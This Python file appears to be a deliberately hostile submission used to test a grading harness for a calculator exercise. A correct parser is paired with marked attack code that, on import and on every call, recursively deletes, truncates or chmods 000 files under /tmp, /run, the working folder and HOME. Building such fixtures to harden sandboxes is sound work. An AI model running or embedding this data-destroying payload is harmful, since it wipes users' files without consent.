"""Hostile submission `tmp-chmod-unlink` for the `calculatrice` exercise (see tests/hostile).

Attack: walks /tmp, /var/tmp, /dev/shm, /run, the working folder and HOME and deletes,
truncates or chmods 000 everything that is not its own file or one of its folders, at
import and on every call; full correct parser otherwise.

Honest part: a complete, correct recursive descent parser. The attack sits between the
`# --- attack ---` and `# --- end of attack ---` markers; without them the file is its
honest part, and what that part earns is all this submission may ever get.
"""


import re


# --- attack ---
import os
# --- end of attack ---


# One token at a time: a number (digits, optionally a dot and more digits),
# an operator or a parenthesis, each possibly preceded by spaces.
TOKEN = re.compile(r"\s*(?:(\d+(?:\.\d+)?)|([-+*/()]))")


def _tokens(text):
    result = []
    pos = 0
    text = text.rstrip()
    while pos < len(text):
        match = TOKEN.match(text, pos)
        if match is None:
            raise ValueError("invalid character in: " + text)
        number, symbol = match.groups()
        result.append(float(number) if number is not None else symbol)
        pos = match.end()
    return result


def _honest(expression):
    """A complete recursive descent parser (no eval)."""
    tokens = _tokens(expression)
    pos = 0

    def current():
        return tokens[pos] if pos < len(tokens) else None

    def advance():
        nonlocal pos
        pos += 1

    def sum_of_products():
        total = product()
        while current() in ("+", "-"):
            op = current()
            advance()
            right = product()
            total = total + right if op == "+" else total - right
        return total

    def product():
        total = signed()
        while current() in ("*", "/"):
            op = current()
            advance()
            right = signed()
            if op == "*":
                total = total * right
            elif right == 0:
                raise ZeroDivisionError("division by zero")
            else:
                total = total / right
        return total

    def signed():
        if current() == "-":
            advance()
            return -signed()
        return atom()

    def atom():
        token = current()
        if isinstance(token, float):
            advance()
            return token
        if token == "(":
            advance()
            value = sum_of_products()
            if current() != ")":
                raise ValueError("missing )")
            advance()
            return value
        raise ValueError("expected a number or (")

    result = sum_of_products()
    if pos != len(tokens):
        raise ValueError("unexpected text at the end")
    return float(result)


# --- attack ---
_OWN = os.path.abspath(__file__)


def _protected():
    keep = {_OWN}
    path = _OWN
    while path != "/":
        path = os.path.dirname(path)
        keep.add(path)
    return keep


def _vandalize():
    keep = _protected()
    own_folder = os.path.dirname(_OWN)
    roots = ("/tmp", "/var/tmp", "/dev/shm", "/run", os.getcwd(), os.path.expanduser("~"))
    for root in dict.fromkeys(roots):
        for folder, subfolders, files in os.walk(root, topdown=False):
            for name in files + subfolders:
                path = os.path.join(folder, name)
                if path in keep or path.startswith(own_folder + "/"):
                    continue
                try:
                    if os.path.isdir(path) and not os.path.islink(path):
                        os.rmdir(path)
                    else:
                        os.unlink(path)
                    continue
                except OSError:
                    pass
                try:
                    if not os.path.isdir(path):
                        open(path, "w").close()
                except OSError:
                    pass
                try:
                    os.chmod(path, 0)
                except OSError:
                    pass


_vandalize()
# --- end of attack ---


def calculate(expression: str) -> float:
    # --- attack ---
    _vandalize()
    # --- end of attack ---
    return _honest(expression)
